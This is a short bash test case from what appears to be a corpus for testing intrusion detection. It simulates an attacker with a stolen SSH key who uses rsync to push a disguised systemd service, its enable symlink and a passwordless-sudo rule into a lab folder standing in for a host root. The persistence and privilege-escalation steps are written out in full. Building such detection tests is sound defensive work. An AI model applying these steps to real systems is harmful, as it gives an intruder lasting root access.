#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=sshd,rsync far=out services=nvr:22 seconds=22 parts=dns before=yes
# Somebody outside with a stolen key copies, by rsync over the server's own SSH, a unit with its link and a rule of sudo to the host; the host's root is a folder of the lab.
# config: host_root: {dir}/host
# shellcheck disable=SC1091,SC2154 # far/ssh.sh, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = services ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=10.30.0.2 -p 22; fi
if [ "$1" = out ]; then
	k=$LAB/kit/etc; mkdir -p "$k"/{sudoers.d,systemd/system/multi-user.target.wants}; printf '[Service]\nExecStart=/var/lib/.u\n' >"$k/systemd/system/irqd.service"; ln -s ../irqd.service "$k/systemd/system/multi-user.target.wants/irqd.service"; echo 'backup ALL=(ALL) NOPASSWD: ALL' >"$k/sudoers.d/zz"
	sleep 4; timeout 12 rsync -a -e "ssh ${ssh[*]}" "$LAB/kit/" "root@10.30.0.2:$LAB/host/"; exit 0
fi
sleep 18; [ -L "$LAB/host/etc/systemd/system/multi-user.target.wants/irqd.service" ] && grep -q NOPASSWD "$LAB/host/etc/sudoers.d/zz"
